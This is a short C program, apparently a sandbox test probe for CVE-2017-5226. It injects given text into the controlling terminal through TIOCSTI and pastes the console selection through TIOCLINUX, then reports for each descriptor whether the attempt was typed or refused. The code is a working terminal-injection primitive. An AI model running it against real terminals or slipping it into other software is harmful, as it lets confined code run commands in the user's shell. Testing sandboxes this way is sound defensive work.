/* SPDX-License-Identifier: Apache-2.0 */
/*
 * inject TEXT: CVE-2017-5226. Types TEXT into the terminal that it finds at descriptors 0 to 2 or behind /dev/tty,
 * by TIOCSTI, and by TIOCLINUX pastes the console's selection. Prints "typed N" or "refused" for each.
 */
#include <fcntl.h>
#include <stdio.h>
#include <sys/ioctl.h>
#include <unistd.h>

static void type_into(int fd, const char *name, const char *text)
{
	char paste = 3; /* TIOCL_PASTESEL */
	int typed = 0;

	for (const char *c = text; *c; c++)
		typed += ioctl(fd, TIOCSTI, c) == 0;
	if (typed)
		printf("typed %d by %s\n", typed, name);
	else
		printf("refused by %s\n", name);
	if (ioctl(fd, TIOCLINUX, &paste) == 0)
		printf("pasted by %s\n", name);
}

int main(int argc, char **argv)
{
	int tty;

	if (argc != 2)
		return 2;
	type_into(0, "standard input", argv[1]);
	type_into(1, "standard output", argv[1]);
	type_into(2, "standard error", argv[1]);
	tty = open("/dev/tty", O_RDWR | O_CLOEXEC | O_NOCTTY);
	if (tty >= 0)
		type_into(tty, "/dev/tty", argv[1]);
	return 0;
}
